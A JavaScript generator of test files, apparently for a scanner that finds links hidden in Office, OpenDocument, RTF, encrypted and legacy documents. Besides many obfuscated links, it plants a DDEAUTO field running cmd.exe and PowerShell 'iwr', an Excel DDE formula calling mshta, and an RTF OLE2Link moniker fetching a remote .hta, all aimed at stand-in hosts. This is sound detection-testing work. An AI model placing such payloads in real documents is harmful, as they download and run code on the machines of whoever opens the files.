// Office: where relationships may stand, instructions in pieces, encryption, other formats of the same programs.
import { createCipheriv, createHash } from 'node:crypto';
import { link, plant, qrPng, read, run, write, zip, at } from './plant.mjs';

const url = (name, rest = 'a') => `https://${name}.held.example.com/${rest}`;
const one = (name, rest) => ({ urls: [url(name, rest)] });
const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const W =
	'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const TYPES = `${xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`;
const rels = (...list) =>
	`${xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
		.map(
			([type, target, mode = 'External'], i) =>
				`<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target.replace(/&/g, '&amp;')}"${mode === 'External' ? ' TargetMode="External"' : ''}/>`,
		)
		.join('')}</Relationships>`;
const entries = (parts) => Object.entries(parts).map(([name, content]) => ({ name, content }));
const package_ = (main, parts) =>
	entries({ '[Content_Types].xml': TYPES, '_rels/.rels': rels(['officeDocument', main, 'Internal']), ...parts });
const word = (body, parts = {}) =>
	package_('word/document.xml', {
		'word/document.xml': `${xml}<w:document ${W}><w:body>${body}</w:body></w:document>`,
		...parts,
	});
const sheet = (rows, parts = {}) =>
	package_('xl/workbook.xml', {
		'xl/workbook.xml': `${xml}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="a" sheetId="1"/></sheets></workbook>`,
		'xl/worksheets/sheet1.xml': `${xml}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`,
		...parts,
	});
const slides = (body, parts = {}) =>
	package_('ppt/presentation.xml', {
		'ppt/presentation.xml': `${xml}<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`,
		'ppt/slides/slide1.xml': `${xml}<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">${body}</p:sld>`,
		...parts,
	});
const office = (name, planted, list, options) =>
	plant(name, { kind: 'office', ...planted }, Buffer.isBuffer(list) ? list : zip(list, options));
const p = (text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const instruction = (...pieces) =>
	`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r w:rsidR="00A1"><w:rPr><w:b/></w:rPr><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('<w:proofErr w:type="spellStart"/>')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Open</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const header = (tag, body) => `${xml}<w:${tag} ${W}>${body}</w:${tag}>`;

function makeWord() {
	office(
		'header-link.docx',
		one('headerlink'),
		word(p('x'), {
			'word/header2.xml': header('hdr', p('Open')),
			'word/_rels/header2.xml.rels': rels(['hyperlink', url('headerlink')]),
		}),
	);
	office(
		'footer-field.docx',
		one('footerfield', 'x?a=1'),
		word(p('x'), {
			'word/footer1.xml': header(
				'ftr',
				instruction(' HYPER', 'LINK "htt', 'ps://footerfield.held.exam', 'ple.com/x?a=1" '),
			),
		}),
	);
	office(
		'comment-link.docx',
		{ urls: [url('commentlink'), url('commenttext')] },
		word(p('x'), {
			'word/comments.xml': header('comments', `<w:comment w:id="1">${p(url('commenttext'))}</w:comment>`),
			'word/_rels/comments.xml.rels': rels(['hyperlink', url('commentlink')]),
		}),
	);
	const chunk = (name, type, content, planted) =>
		office(
			`chunk-${type}.docx`,
			planted,
			word('<w:altChunk r:id="rId1"/>', {
				'word/_rels/document.xml.rels': rels(['aFChunk', `/word/afchunk.${type}`, 'Internal']),
				[`word/afchunk.${type}`]: content,
			}),
		);
	chunk('html', 'htm', `<html><body><a href="${url('chunkhtml')}">Open</a></body></html>`, one('chunkhtml'));
	chunk(
		'mht',
		'mht',
		`MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<a href=3D"${url('chunkmht')}">x</a>\r\n--b--\r\n`,
		one('chunkmht'),
	);
	chunk('rtf', 'rtf', `{\\rtf1{\\field{\\*\\fldinst HYPERLINK "${url('chunkrtf')}"}{\\fldrslt x}}}`, one('chunkrtf'));
	chunk('docx', 'docx', zip(word(instruction(` HYPERLINK "${url('chunkdocx')}" `))), one('chunkdocx'));
	office(
		'custom-data.docx',
		one('customdata'),
		word(p('x'), { 'customXml/item1.xml': `<d xmlns="urn:x"><u>${url('customdata')}</u></d>` }),
	);
	office(
		'shape-link.docx',
		one('shapelink'),
		word(
			`<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="${url('shapelink')}" style="width:99pt"/></w:pict></w:r></w:p>`,
		),
	);
	office(
		'quoted-field.docx',
		one('quoted', 'q'),
		word(
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE ${[...Buffer.from(url('quoted', 'q'))].join(' ')} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText xml:space="preserve">" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
		),
	);
	const late = word(p('x'), { 'word/_rels/document.xml.rels': rels(['hyperlink', url('latetypes')]) });
	office('types-last.docx', one('latetypes'), [
		{
			name: 'docProps/thumbnail.bin',
			content: Buffer.from(Array.from({ length: 9_000 }, (_, i) => (i * 7919) & 255)),
			method: 0,
		},
		...late.slice(1),
		late[0],
	]);
	office(
		'backslashes.docx',
		one('backslashes'),
		word(p('x'), { 'word\\_rels\\document.xml.rels': rels(['hyperlink', url('backslashes')]) }),
	);
	office(
		'chart-data.docx',
		{ ...one('chartdata', 'book.xlsx'), flags: ['external-relationship'] },
		word(p('x'), {
			'word/charts/chart1.xml': `${xml}<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>`,
			'word/charts/_rels/chart1.xml.rels': rels(['oleObject', url('chartdata', 'book.xlsx')]),
		}),
	);
	office(
		'frame.docx',
		{ ...one('frame'), flags: ['external-relationship'] },
		word(p('x'), {
			'word/webSettings.xml': header('webSettings', ''),
			'word/_rels/webSettings.xml.rels': rels(['frame', url('frame')]),
		}),
	);
	office(
		'sub-document.docx',
		{ ...one('subdocument'), flags: ['external-relationship'] },
		word('<w:subDoc r:id="rId1"/>', { 'word/_rels/document.xml.rels': rels(['subDocument', url('subdocument')]) }),
	);
	office(
		'diagram.docx',
		one('diagram'),
		word(p('x'), {
			'word/diagrams/data1.xml': `${xml}<dgm:dataModel xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:t>${url('diagram')}</a:t></dgm:dataModel>`,
		}),
	);
	office(
		'text-box.docx',
		one('textbox'),
		word(
			`<w:p><w:r><w:pict><v:textbox xmlns:v="urn:schemas-microsoft-com:vml"><w:txbxContent>${p('https://text')}</w:txbxContent></v:textbox></w:pict></w:r></w:p>${p(url('textbox'))}`,
		),
	);
	office(
		'property.docx',
		{ urls: [url('property'), url('property', 'base/')] },
		word(p('x'), {
			'docProps/custom.xml': `${xml}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="u"><lpwstr>${url('property')}</lpwstr></property></Properties>`,
			'docProps/app.xml': `${xml}<Properties><HyperlinkBase>${url('property', 'base/')}</HyperlinkBase></Properties>`,
		}),
	);
	office(
		'wide-part.docx',
		one('widepart'),
		word(p('x'), {
			'word/_rels/document.xml.rels': Buffer.concat([
				Buffer.from('feff', 'hex'),
				Buffer.from(rels(['hyperlink', url('widepart')]).replace('UTF-8', 'UTF-16'), 'utf16le').swap16(),
			]),
		}),
	);
	office(
		'strict-name.docx',
		one('othername'),
		entries({
			'[Content_Types].xml': TYPES,
			'_rels/.rels': rels(['officeDocument', '/w0rd/d0c.xml', 'Internal']),
			'w0rd/d0c.xml': `${xml}<w:document ${W}><w:body>${instruction(` HYPERLINK "${url('othername')}" `)}</w:body></w:document>`,
		}),
	);
	office(
		'action-field.docx',
		{ ...one('includepicture', 'p.png'), flags: ['external-relationship'] },
		word(instruction(` INCLUDEPICTURE  \\d "${url('includepicture', 'p.png')}" \\* MERGEFORMAT `)),
	);
	office(
		'print-field.docx',
		{ flags: ['dde-field'], urls: [url('ddefield')] },
		word(instruction(' DDE', 'AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k powershell ', `iwr ${url('ddefield')}" `)),
	);
	const qr = (name) => ({ urls: [url(name)], codes: [link(url(name))] });
	write('c.png', qrPng(url('tiffpicture')));
	run('convert', [at('c.png'), at('c.tiff')]);
	office('tiff-picture.docx', { notRead: ['pictures'] }, word(p('x'), { 'word/media/image1.tiff': read('c.tiff') }));
	office(
		'header-picture.docx',
		qr('headerpicture'),
		word(p('x'), { 'word/header1.xml': header('hdr', p('x')), 'word/media/image9.png': qrPng(url('headerpicture')) }),
	);
	office(
		'vector-picture.docx',
		qr('vectorpicture'),
		word(p('x'), {
			'word/media/image1.svg': run('qrencode', ['-t', 'SVG', '-o', '-', url('vectorpicture')]),
		}),
	);
	office(
		'metafile.docx',
		{ notRead: ['pictures'] },
		word(p('x'), {
			'word/media/image1.emf': Buffer.concat([
				Buffer.from('010000006c000000', 'hex'),
				Buffer.alloc(32),
				Buffer.from(' EMF'),
				Buffer.alloc(60),
			]),
		}),
	);
	office('thumbnail.docx', qr('thumbnail'), word(p('x'), { 'docProps/thumbnail.jpeg': jpeg(url('thumbnail')) }));
}

function jpeg(text) {
	write('j.png', qrPng(text, 5));
	run('convert', [at('j.png'), at('j.jpg')]);
	return read('j.jpg');
}

function makeSheets() {
	const formula = (text) => `<row><c><f>${text}</f></c></row>`;
	office(
		'formula-joined.xlsx',
		one('joined', 'x?y=1'),
		sheet(formula('HYPERLINK("https://joined.held."&amp;"example.com/x"&amp;"?y=1","Open")')),
	);
	office(
		'formula-concatenate.xlsx',
		one('concatenated', 'x'),
		sheet(formula('HYPERLINK(CONCATENATE("https://concat","enated.held.example.com/x"),"Open")')),
	);
	office(
		'formula-cell.xlsx',
		one('cell', 'x'),
		sheet(`<row><c t="inlineStr"><is><t>${url('cell', 'x')}</t></is></c></row>${formula('HYPERLINK(A1,"Open")')}`),
	);
	office(
		'formula-characters.xlsx',
		one('characters', 'x'),
		sheet(
			formula(`HYPERLINK(${[...url('characters', 'x')].map((c) => `CHAR(${c.charCodeAt(0)})`).join('&amp;')},"Open")`),
		),
	);
	office(
		'split-string.xlsx',
		one('splitstring', 'x'),
		sheet('', {
			'xl/sharedStrings.xml': `${xml}<sst><si><r><t>https://split</t></r><r><rPr/><t>string.held.example.com/x</t></r></si></sst>`,
		}),
	);
	office(
		'dde.xlsx',
		{ ...one('ddecell'), flags: ['dde-field'] },
		sheet(formula(`cmd|'/c mshta ${url('ddecell')}'!A0`)),
	);
	office(
		'external-book.xlsx',
		{ ...one('book', 'b.xlsx'), flags: ['external-relationship'] },
		sheet('', {
			'xl/externalLinks/externalLink1.xml': `${xml}<externalLink/>`,
			'xl/externalLinks/_rels/externalLink1.xml.rels': rels(['externalLinkPath', url('book', 'b.xlsx')]),
		}),
	);
	office(
		'defined-name.xlsx',
		one('defined', 'x'),
		sheet('', {
			'xl/workbook.xml': `${xml}<workbook><sheets><sheet name="a" sheetId="1"/></sheets><definedNames><definedName name="n">WEBSERVICE("${url('defined', 'x')}")</definedName></definedNames></workbook>`,
		}),
	);
	office(
		'connection.xlsx',
		one('connection', 'x'),
		sheet('', {
			'xl/connections.xml': `${xml}<connections><connection id="1" type="4"><webPr url="${url('connection', 'x')}"/></connection></connections>`,
		}),
	);
	office(
		'power-query.xlsx',
		one('drawing', 'x'),
		sheet('', {
			'xl/drawings/vmlDrawing1.vml': `<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="${url('drawing', 'x')}"/></xml>`,
		}),
	);
	office(
		'validation.xlsx',
		one('validation', 'x'),
		sheet('', {
			'xl/worksheets/sheet1.xml': `${xml}<worksheet><dataValidations><dataValidation prompt="Open ${url('validation', 'x')}"/></dataValidations></worksheet>`,
		}),
	);
	const wide = (text) => Buffer.concat([Buffer.from([text.length, 0, 0, 0]), Buffer.from(text, 'utf16le')]);
	office(
		'binary.xlsb',
		{ urls: [url('binarylink'), url('binarystring')] },
		package_('xl/workbook.bin', {
			'xl/workbook.bin': Buffer.from('83010080010000', 'hex'),
			'xl/sharedStrings.bin': Buffer.concat([
				Buffer.from('9f0108010000000100000013', 'hex'),
				Buffer.of(5 + 2 * url('binarystring').length, 0),
				wide(url('binarystring')),
				Buffer.from('a00100', 'hex'),
			]),
			'xl/worksheets/sheet1.bin': Buffer.from('810100820100', 'hex'),
			'xl/worksheets/_rels/sheet1.bin.rels': rels(['hyperlink', url('binarylink')]),
		}),
	);
	office(
		'hover.pptx',
		{ urls: [url('hover'), url('notes'), url('slidetext')] },
		slides(`<a:hlinkHover/><a:t>${url('slidetext')}</a:t>`, {
			'ppt/slides/_rels/slide1.xml.rels': rels(['hyperlink', url('hover')]),
			'ppt/notesSlides/_rels/notesSlide1.xml.rels': rels(['hyperlink', url('notes')]),
		}),
	);
	office(
		'remote-media.pptx',
		{ ...one('media', 'v.mp4'), flags: ['external-relationship'] },
		slides('', { 'ppt/slides/_rels/slide1.xml.rels': rels(['video', url('media', 'v.mp4')]) }),
	);
	office(
		'layout-link.pptx',
		one('layout'),
		slides('', { 'ppt/slideLayouts/_rels/slideLayout1.xml.rels': rels(['hyperlink', url('layout')]) }),
	);
}

function makeOpenDocument() {
	const document = (content, more = {}, manifest = '') => [
		{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 },
		...entries({
			'content.xml': content,
			'META-INF/manifest.xml': `${xml}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">${manifest}</manifest:manifest>`,
			...more,
		}),
	];
	const content = (body) =>
		`${xml}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:t" xmlns:form="urn:f" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:text="urn:x"><office:body>${body}</office:body></office:document-content>`;
	office(
		'formula.ods',
		one('odsformula', 'x'),
		document(
			content(
				`<table:table-cell table:formula="of:=HYPERLINK(&quot;${url('odsformula', 'x')}&quot;;&quot;Open&quot;)"/>`,
			),
		),
	);
	office(
		'form.odt',
		one('odtform', 'x'),
		document(content(`<form:button form:target-frame="" xlink:href="${url('odtform', 'x')}"/>`)),
	);
	office(
		'frame-link.odt',
		one('odtframe', 'x'),
		document(content(`<draw:a xmlns:draw="urn:d" xlink:type="simple" xlink:href="${url('odtframe', 'x')}"/>`)),
	);
	office(
		'encrypted.odt',
		{ flags: ['password-protected'], notRead: ['encrypted'] },
		document(
			Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 7907) & 255)),
			{},
			'<manifest:file-entry manifest:full-path="content.xml" manifest:size="9"><manifest:encryption-data><manifest:algorithm/></manifest:encryption-data></manifest:file-entry>',
		),
	);
	plant(
		'flat.fodt',
		one('flat'),
		Buffer.from(
			`${xml}<office:document xmlns:office="urn:o" xmlns:text="urn:t" xmlns:xlink="http://www.w3.org/1999/xlink" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><text:a xlink:href="${url('flat')}">Open</text:a></office:body></office:document>`,
		),
	);
	plant(
		'word-2003.xml',
		{ urls: [url('wordml'), url('wordmlfield')] },
		Buffer.from(
			`${xml}<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:hlink w:dest="${url('wordml')}"/><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "https://wordml</w:instrText></w:r><w:r><w:instrText>field.held.example.com/a" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:wordDocument>`,
		),
	);
	plant(
		'flat-package.xml',
		one('flatopc'),
		Buffer.from(
			`${xml}<?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/_rels/document.xml.rels"><pkg:xmlData>${rels(['hyperlink', url('flatopc')]).replace(xml, '')}</pkg:xmlData></pkg:part></pkg:package>`,
		),
	);
}

function makeRtf() {
	const rtf = (name, planted, body, head = '{\\rtf1\\ansi ') =>
		plant(`${name}.rtf`, { kind: 'rtf', ...planted }, Buffer.from(`${head}${body}}`, 'latin1'));
	rtf(
		'field-groups',
		one('rtfgroups'),
		`{\\field{\\*\\fldinst {\\b HYPER}{LINK }{"https://rtfgroups.}{\\i held.example.com}{/a" }}{\\fldrslt x}}`,
	);
	rtf(
		'field-escaped',
		one('rtfescaped'),
		`{\\field{\\*\\fldinst HYPERLINK "${[...url('rtfescaped')].map((c) => `\\'${c.charCodeAt(0).toString(16)}`).join('')}"}{\\fldrslt x}}`,
	);
	rtf('short-head', one('rtfshort'), `{\\field{\\*\\fldinst HYPERLINK "${url('rtfshort')}"}{\\fldrslt x}}`, '{\\rt ');
	rtf(
		'template-escaped',
		{ ...one('rtftemplate'), flags: ['external-template'] },
		`{\\*\\template ${[...url('rtftemplate')].map((c) => `\\u${c.charCodeAt(0)}?`).join('')}}`,
	);
	const moniker = Buffer.concat([
		Buffer.from('0105000002000000', 'hex'),
		Buffer.from('0d000000', 'hex'),
		Buffer.from('OLE2Link\0\0\0\0\0'),
		Buffer.alloc(8),
		(() => {
			const body = Buffer.concat([
				Buffer.alloc(24),
				Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
				Buffer.from(url('rtfmoniker', 'x.hta'), 'utf16le'),
				Buffer.alloc(20),
			]);
			const size = Buffer.alloc(4);
			size.writeUInt32LE(body.length);
			return Buffer.concat([size, body]);
		})(),
	]);
	rtf(
		'moniker',
		{ ...one('rtfmoniker', 'x.hta'), flags: ['ole-object'] },
		`{\\object\\objautlink\\objupdate{\\*\\objdata ${moniker.toString('hex').replace(/(.{13})/g, '$1\r\n{\\par}\\bin0 \t')}}}`,
	);
	rtf(
		'picture-code',
		{ urls: [url('rtfpicture')], codes: [link(url('rtfpicture'))] },
		`{\\pict\\pngblip\\picw99 ${qrPng(url('rtfpicture'), 4)
			.toString('hex')
			.replace(/(.{64})/g, '$1\n')}}`,
	);
	rtf(
		'shape-link',
		one('rtfshape'),
		`{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlfr x}{\\hlsrc ${url('rtfshape')}}}}}}}`,
	);
	rtf(
		'header-field',
		one('rtfheader'),
		`{\\header {\\field{\\*\\fldinst HYPERLINK "${url('rtfheader')}"}{\\fldrslt x}}}`,
	);
	plant(
		'called.doc',
		{ kind: 'rtf', ...one('rtfdoc') },
		Buffer.from(`{\\rtf1 {\\field{\\*\\fldinst{HYPERLINK "${url('rtfdoc')}"}}{\\fldrslt x}}}`),
	);
}

/** Standard encryption (MS-OFFCRYPTO section 2.3.4.5): AES-128, SHA-1, 50,000 rounds. */
function standard(password, bytes, spin = 50_000) {
	const salt = Buffer.from('000102030405060708090a0b0c0d0e0f', 'hex');
	const sha1 = (...parts) => createHash('sha1').update(Buffer.concat(parts)).digest();
	const number = (value) => {
		const four = Buffer.alloc(4);
		four.writeUInt32LE(value);
		return four;
	};
	let hash = sha1(salt, Buffer.from(password, 'utf16le'));
	for (let i = 0; i < spin; i++) hash = sha1(number(i), hash);
	hash = sha1(hash, number(0));
	const padded = Buffer.alloc(64, 0x36);
	for (let i = 0; i < 20; i++) padded[i] ^= hash[i];
	const key = sha1(padded).subarray(0, 16);
	const encrypt = (data) =>
		createCipheriv('aes-128-ecb', key, null)
			.setAutoPadding(false)
			.update(Buffer.concat([data, Buffer.alloc((16 - (data.length % 16)) % 16)]));
	const verifier = Buffer.from('f0e1d2c3b4a5968778695a4b3c2d1e0f', 'hex');
	const head = Buffer.concat([
		number(0x24),
		number(0),
		number(0x660e),
		number(0x8004),
		number(128),
		number(0x18),
		number(0),
		number(0),
		Buffer.from('Microsoft Enhanced RSA and AES Cryptographic Provider\0', 'utf16le'),
	]);
	const info = Buffer.concat([
		Buffer.from('0300020024000000', 'hex'),
		number(head.length),
		head,
		number(16),
		salt,
		encrypt(verifier),
		number(20),
		encrypt(Buffer.concat([sha1(verifier), Buffer.alloc(12)])),
	]);
	const size = Buffer.alloc(8);
	size.writeBigUInt64LE(BigInt(bytes.length));
	return compound({ EncryptionInfo: info, EncryptedPackage: Buffer.concat([size, encrypt(bytes)]) });
}

/** A compound file with sectors of 512 bytes and no small ones: each stream is filled up to 4,096. */
function compound(streams) {
	const list = Object.entries(streams).map(([name, bytes]) => ({ name, bytes, size: Math.max(bytes.length, 4_096) }));
	const sectors = (size) => Math.ceil(size / 512);
	const total = 2 + list.reduce((sum, { size }) => sum + sectors(size), 0);
	if (total > 128) throw new Error('one sector of the table is not enough');
	const table = Buffer.alloc(512, 0xff);
	table.writeInt32LE(-3, 0);
	table.writeInt32LE(-2, 4);
	const directory = Buffer.alloc(512);
	const entry = (i, name, type, start, size, child, left) => {
		const o = i * 128;
		directory.write(name, o, 'utf16le');
		directory.writeUInt16LE(name === '' ? 0 : 2 * name.length + 2, o + 64);
		directory[o + 66] = type;
		directory[o + 67] = 1;
		for (const [offset, value] of [
			[68, left],
			[72, -1],
			[76, child],
			[116, start],
		])
			directory.writeInt32LE(value, o + offset);
		directory.writeUInt32LE(size, o + 120);
	};
	entry(0, 'Root Entry', 5, -2, 0, list.length, -1);
	let next = 2;
	const bodies = list.map(({ name, bytes, size }, i) => {
		const count = sectors(size);
		for (let k = 0; k < count; k++) table.writeInt32LE(k === count - 1 ? -2 : next + k + 1, (next + k) * 4);
		// A stream of EncryptionInfo that is longer than it has to be is read all the same.
		entry(i + 1, name, 2, next, size, -1, i === 0 ? -1 : i);
		next += count;
		return Buffer.concat([bytes, Buffer.alloc(count * 512 - bytes.length)]);
	});
	for (let i = list.length + 1; i < 4; i++) entry(i, '', 0, 0, 0, -1, -1);
	const head = Buffer.alloc(512);
	head.write('d0cf11e0a1b11ae1', 'hex');
	for (const [offset, value] of [
		[24, 0x3e],
		[26, 3],
		[28, 0xfffe],
		[30, 9],
		[32, 6],
	])
		head.writeUInt16LE(value, offset);
	for (const [offset, value] of [
		[44, 1],
		[48, 1],
		[56, 4_096],
		[60, -2],
		[68, -2],
	])
		head.writeInt32LE(value, offset);
	head.fill(0xff, 76);
	head.writeInt32LE(0, 76);
	return Buffer.concat([head, table, directory, ...bodies]);
}

function makeEncrypted() {
	// The tool that encrypts them writes streams of less than 4,096 bytes over one another.
	const filler = Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * i * 7_919) >> 7));
	const document = (name) =>
		zip([
			...word(instruction(` HYPERLINK "${url(name)}" `)),
			{ name: 'word/fonts/font1.odttf', content: filler, method: 0 },
		]);
	const flags = ['password-protected', 'password-in-message'];
	const agile = (name, password) => {
		write('plain.docx', document(name));
		run(process.env.PYTHON ?? 'python3', [
			'-c',
			`
import msoffcrypto
from msoffcrypto.format.ooxml import OOXMLFile
with open('plain.docx','rb') as f, open('sealed.docx','wb') as o: OOXMLFile(f).encrypt(${JSON.stringify(password)}, o)`,
		]);
		return read('sealed.docx');
	};
	const legacy = (name, planted, bytes) => plant(name, { kind: 'office-legacy', ...planted }, bytes);
	legacy(
		'agile.docx',
		{ ...one('agile'), flags, properties: { password: 'Inv-2211' }, body: 'The password of the document is Inv-2211.' },
		agile('agile', 'Inv-2211'),
	);
	legacy(
		'agile-accents.docx',
		{ ...one('agileaccents'), flags, body: 'Contraseña: Añ0-2026' },
		agile('agileaccents', 'Añ0-2026'),
	);
	legacy(
		'agile-default.xlsx',
		{ ...one('agiledefault'), flags: ['password-protected'] },
		agile('agiledefault', 'VelvetSweatshop'),
	);
	legacy(
		'agile-closed.docx',
		{ flags: ['password-protected'], notRead: ['password'], body: 'Password: 1234' },
		agile('agileclosed', 'nobody knows'),
	);
	legacy(
		'standard.docx',
		{ ...one('standard'), flags, body: 'senha: 998877' },
		standard('998877', document('standard')),
	);
	legacy(
		'standard-closed.docx',
		{ flags: ['password-protected'], notRead: ['password'] },
		standard('nobody knows', document('standardclosed')),
	);
	const rights = compound({
		EncryptedPackage: Buffer.alloc(600, 7),
		EncryptionInfo: Buffer.from('0400040040000000', 'hex'),
	});
	legacy(
		'no-known-cipher.docx',
		{ flags: ['password-protected'], notRead: ['encrypted'], body: 'Password: 1234' },
		rights,
	);
}

function makeOld() {
	write('old.html', `<html><body><p><a href="${url('olddoc')}">Open</a></p></body></html>`);
	run('soffice', ['--headless', '--convert-to', 'doc:MS Word 97', '--outdir', at(''), at('old.html')]);
	plant('old.doc', { kind: 'office-legacy', ...one('olddoc') }, read('old.doc'));
	write('old.csv', `"=HYPERLINK(""${url('oldxls')}"";""Open"")"\n`);
	run('soffice', [
		'--headless',
		'--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1',
		'--convert-to',
		'xls',
		'--outdir',
		at(''),
		at('old.csv'),
	]);
	plant('old.xls', { kind: 'office-legacy', ...one('oldxls') }, read('old.xls'));
	const data = (content) => {
		const size = Buffer.alloc(20);
		size.writeBigUInt64LE(BigInt(content.length));
		return Buffer.concat([Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'), size, content]);
	};
	plant(
		'section.one',
		{
			kind: 'office-legacy',
			urls: [url('onelink'), url('onecode'), url('onefile')].sort(),
			codes: [link(url('onecode'))],
			flags: ['embedded-file'],
		},
		Buffer.concat([
			Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
			Buffer.alloc(1_008),
			Buffer.from(`Click ${url('onelink')} to open\0`, 'utf16le'),
			Buffer.alloc(100),
			data(qrPng(url('onecode'), 4)),
			data(Buffer.from(`<html><script>location="${url('onefile')}"</script></html>`)),
		]),
	);
}

export function makeOffice() {
	makeWord();
	makeSheets();
	makeOpenDocument();
	makeRtf();
	makeEncrypted();
	makeOld();
}
